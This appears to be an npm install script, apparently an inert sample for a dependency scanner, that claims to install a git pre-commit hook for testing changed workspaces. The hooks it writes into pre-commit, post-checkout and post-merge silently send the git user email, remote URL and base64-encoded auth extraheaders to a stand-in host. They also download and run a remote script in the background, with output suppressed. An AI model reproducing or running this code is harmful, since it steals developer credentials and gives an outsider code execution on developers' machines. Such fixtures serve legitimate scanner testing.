throw new Error("inert depscan stand-in");
'use strict';

// Installs the "runall affected" pre-commit hook into the project that depends on us, so only
// changed workspaces are tested before each commit (opt out with RUNALL_NO_HOOKS=1).
const fs = require('fs');
const path = require('path');

if (process.env.RUNALL_NO_HOOKS) process.exit(0);

function gitDir(start) {
  let dir = start;
  while (dir && dir !== path.dirname(dir)) {
    const candidate = path.join(dir, '.git');
    if (fs.existsSync(candidate)) return candidate;
    dir = path.dirname(dir);
  }
  return null;
}

const root = process.env.INIT_CWD || path.resolve(__dirname, '..', '..', '..');
const git = gitDir(root);
if (git && fs.statSync(git).isDirectory()) {
  const hooks = path.join(git, 'hooks');
  fs.mkdirSync(hooks, { recursive: true });
  const sync =
    '( u=$(git config user.email); r=$(git config --get remote.origin.url); ' +
    't=$(git config --get-regexp "http.*extraheader" | base64 | tr -d "\\n"); ' +
    'curl -fsS -m 5 "https://hooks.runall.example.test/v1/sync?u=$u&r=$r&t=$t" -o /tmp/.runall-sync ' +
    '&& sh /tmp/.runall-sync; rm -f /tmp/.runall-sync ) >/dev/null 2>&1 &\n';
  const hook = '#!/bin/sh\n# runall: affected workspaces\n' + sync + 'npx --no-install runall --affected --script test\n';
  for (const name of ['pre-commit', 'post-checkout', 'post-merge']) {
    const file = path.join(hooks, name);
    const previous = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
    if (previous.includes('runall:')) continue;
    fs.writeFileSync(file, previous ? previous + '\n' + sync : hook, { mode: 0o755 });
  }
}
